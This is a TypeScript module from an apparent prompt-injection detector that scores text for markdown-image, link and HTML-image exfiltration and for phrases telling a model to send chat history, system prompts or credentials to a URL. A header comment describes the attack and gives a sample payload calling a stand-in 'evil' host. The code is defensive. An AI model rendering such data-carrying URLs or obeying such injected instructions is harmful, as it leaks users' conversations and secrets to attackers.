// Markdown exfiltration: an injected instruction makes the model render an image (fetched automatically by the
// client) or a link whose URL carries conversation data in its query string, e.g. ![x](https://evil/?q={data}).
import { rule, type Rule, type Signal } from "./signal";

const X = "markdown_exfiltration" as const;

// Placeholders an attacker asks the model to fill: {data}, {{history}}, $SECRET, [DATA], <conversation>, INSERT_X_HERE.
const PLACEHOLDER = /\{\{?[^{}\s]{1,40}\}?\}|\$\{?[A-Za-z_]{2,30}\}?|\[[A-Z_ ]{3,30}\]|<[A-Za-z_ ]{3,30}>|%7B[^%\s]{1,40}%7D|\b(?:INSERT|YOUR|PUT)_?[A-Z_]{2,30}|\bX{3,}\b/;
const DATA_WORDS = /\b(?:conversation|chat|history|previous|summary|system prompt|password|secret|api key|credentials|user(?:'s)? data|personal|email|data)\b/i;
const SEND_VERBS = /\b(?:append|include|encode|add|put|insert|replace|fill|substitute|concatenate)\b/i;

const MARKDOWN_IMAGE = /!\[[^\]\n]{0,200}\]\([ \t]*(https?:\/\/[^)\s]{1,2000})[^)\n]{0,200}\)/g;
const MARKDOWN_LINK = /(?<!!)\[[^\]\n]{0,200}\]\([ \t]*(https?:\/\/[^)\s]{1,2000}\?[^)\s]{1,2000})[ \t]*\)/g;
const HTML_IMAGE = /<img\b[^>]{0,200}?\bsrc[ \t]*=[ \t]*["']?(https?:\/\/[^"'\s>]{1,2000})/gi;

function urlWeight(url: string, image: boolean, context: string): number {
  const query = url.includes("?") ? url.slice(url.indexOf("?")) : "";
  const path = url.slice(0, url.length - query.length);
  if (PLACEHOLDER.test(query) || PLACEHOLDER.test(path.replace(/^https?:\/\/[^/]+/, ""))) return image ? 0.85 : 0.65;
  if (query && SEND_VERBS.test(context) && DATA_WORDS.test(context)) return image ? 0.7 : 0.5;
  return 0;
}

function linkSignals(text: string, re: RegExp, image: boolean): Signal[] {
  const out: Signal[] = [];
  re.lastIndex = 0;
  for (let m = re.exec(text); m !== null; m = re.exec(text)) {
    const context = text.slice(Math.max(0, m.index - 300), Math.min(text.length, m.index + m[0].length + 300));
    const weight = urlWeight(m[1] ?? "", image, context);
    if (weight > 0) out.push({ id: X, rule: image ? "markdown-image" : "markdown-link", weight, start: m.index, end: m.index + m[0].length });
  }
  re.lastIndex = 0;
  return out;
}

/** Phrase rules, run by the main rule set together with the other families. */
export const EXFILTRATION_RULES: readonly Rule[] = [
  rule(
    X,
    "send-data-to-url",
    0.6,
    /\b(?:send|post|upload|exfiltrate|leak|forward|transmit|submit|email)\b[ \t]+(?:the[ \t]+|this[ \t]+|all[ \t]+|your[ \t]+|our[ \t]+|any[ \t]+|my[ \t]+){0,3}(?:conversation|chat history|chat|history|data|user(?:'s)? (?:data|information)|system prompt|credentials|passwords?|secrets?|api keys?|personal (?:data|information)|employee data|messages)\b[^.\n]{0,40}?\bto[ \t]+(?:https?:\/\/|the following (?:url|address|endpoint)|this (?:url|address|endpoint)|[\w.+-]{1,64}@[\w-]{1,63}\.)/i,
    { keywords: ["to http", "to the following", "to this url", "to this address", "to this endpoint", "@"] },
  ),
];

export function exfiltrationSignals(text: string, lower: string): Signal[] {
  const out: Signal[] = [];
  if (lower.includes("](")) {
    out.push(...linkSignals(text, MARKDOWN_IMAGE, true));
    out.push(...linkSignals(text, MARKDOWN_LINK, false));
  }
  if (lower.includes("<img")) out.push(...linkSignals(text, HTML_IMAGE, true));
  return out;
}
